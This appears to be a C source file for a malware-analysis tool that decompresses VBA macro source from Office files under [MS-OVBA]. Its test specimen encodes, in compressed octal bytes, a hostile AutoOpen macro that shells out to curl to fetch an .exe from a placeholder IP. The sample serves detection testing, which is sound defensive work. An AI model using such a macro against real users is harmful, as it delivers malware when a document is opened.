/*
 * The source of VBA macros, which Office keeps packed in streams of its files ([MS-OVBA] 2.4.1).
 *
 * Every module begins with the word "Attribute", whose first eight letters stand there as they are: there is nothing
 * before them to copy.  So modules are found without the directory and the tables of sectors, which
 * damaged and hostile files have wrong; one whose sectors are scattered comes out as far as the first gap.
 */
#include "lab/analyser.h"
#include "base/little.h"

#define CHUNK_BYTES 4096
#define MODULES_MAX 64
#define MODULE_BYTES_MAX (512u << 10)

struct module {
	uint8_t *out;
	size_t used, chunk; /* where the current chunk begins */
};

/* An earlier place and a length share 16 bits; how many each has grows with the chunk (2.4.1.3.19.1). */
static bool token_copy(struct module *m, unsigned token)
{
	size_t difference = m->used - m->chunk;
	unsigned bits = 4;
	while ((size_t)1 << bits < difference)
		bits++;
	size_t len = (token & (0xffffu >> bits)) + 3, offset = (token >> (16 - bits)) + 1;
	if (offset > difference || len > MODULE_BYTES_MAX - m->used || difference + len > CHUNK_BYTES)
		return false;
	for (; len; len--, m->used++)
		m->out[m->used] = m->out[m->used - offset];
	return true;
}

static bool chunk_unpack(struct module *m, struct bytes chunk)
{
	struct reader r = reader_of_bytes(chunk);
	m->chunk = m->used;
	while (reader_left(&r)) {
		unsigned flags = read_u8(&r);
		for (unsigned bit = 0; bit < 8 && reader_left(&r); bit++) {
			if (flags >> bit & 1) {
				unsigned token = read_le16(&r);
				if (!reader_ok(&r) || !token_copy(m, token))
					return false;
			} else if (m->used == MODULE_BYTES_MAX) {
				return false;
			} else {
				m->out[m->used++] = read_u8(&r);
			}
		}
	}
	return true;
}

/* Chunks one after the other, each with its length and a mark; until one is damaged. */
static size_t module_unpack(struct module *m, struct bytes b)
{
	struct reader r = reader_of_bytes(b);
	while (reader_left(&r) > 2) {
		unsigned head = read_le16(&r);
		size_t len = (head & 0xfff) + 1;
		if ((head >> 12 & 7) != 3 || len > reader_left(&r))
			break;
		struct bytes chunk = read_bytes(&r, len);
		if (head >> 15) {
			if (!chunk_unpack(m, chunk))
				break;
		} else if (chunk.len <= MODULE_BYTES_MAX - m->used) {
			memcpy(m->out + m->used, chunk.at, chunk.len);
			m->used += chunk.len;
		}
	}
	return m->used;
}

static void macros_analyse(struct analysis *a, const struct part *part)
{
	static const char mark[] = "\0Attribut";
	struct bytes b = part->content;
	size_t count = 0;
	for (size_t from = 3; from < b.len;) {
		const uint8_t *hit = memmem(b.at + from, b.len - from, mark, sizeof mark - 1);
		if (!hit)
			return;
		size_t at = (size_t)(hit - b.at);
		from = at + sizeof mark - 1;
		/* The signature, and a chunk that is packed. */
		if (b.at[at - 3] != 1 || (b.at[at - 1] & 0xf0) != 0xb0)
			continue;
		if (count++ == MODULES_MAX) {
			analysis_limit(a, "macros.modules");
			return;
		}
		struct module m = {.out = arena_alloc(analysis_arena(a), MODULE_BYTES_MAX)};
		if (!m.out) {
			analysis_limit(a, "memory");
			return;
		}
		size_t n = module_unpack(&m, (struct bytes){b.at + at - 2, b.len - (at - 2)});
		analysis_contains(a, "macro", (struct bytes){m.out, n}, false);
		analysis_fact(a, "macros.module", "%zu bytes", n);
	}
}

static const char *const macros_types[] = {"ole", NULL};
#define SPECIMEN(bytes) {(const uint8_t *)(bytes), sizeof(bytes) - 1}
static const struct lab_specimen specimens[] = {
	{"a macro that fetches a program when the document is opened",
	 SPECIMEN("\320\317\021\340\241\261\032\341\000\007\001\206\260\000\101\164\164\162\151\142\165\164\000\145\040\126"
		  "\102\137\116\141\155\000\145\040\075\040\042\124\150\151\000\163\104\157\143\165\155\145\156\020\164\042"
		  "\015\012\012\214\102\141\163\005\002\214\060\000\140\123\165\142\040\101\000\165\164\157\117\160\145\156"
		  "\050\002\051\000\036\150\145\154\154\040\042\000\143\155\144\040\057\143\040\143\000\165\162\154\040\150"
		  "\164\164\160\000\072\057\057\062\060\063\056\060\000\056\061\061\063\056\070\057\155\000\056\145\170\145"
		  "\040\055\157\040\103\002\020\000\106\105\156\144\040\000\112\015\000\012\000\000"),
	 "part script macro\nindicator url http://203.0.113.8/m.exe text\nfact macros.module 141 bytes"},
	{0},
};

static const struct analyser macros = {
	.name = "macros",
	.summary = "the source of VBA macros in Office files",
	.reference = "[MS-OVBA] 2.4.1",
	.phase = 0,
	.types = macros_types,
	.analyse = macros_analyse,
	.specimens = specimens,
};
ANALYSER(macros);
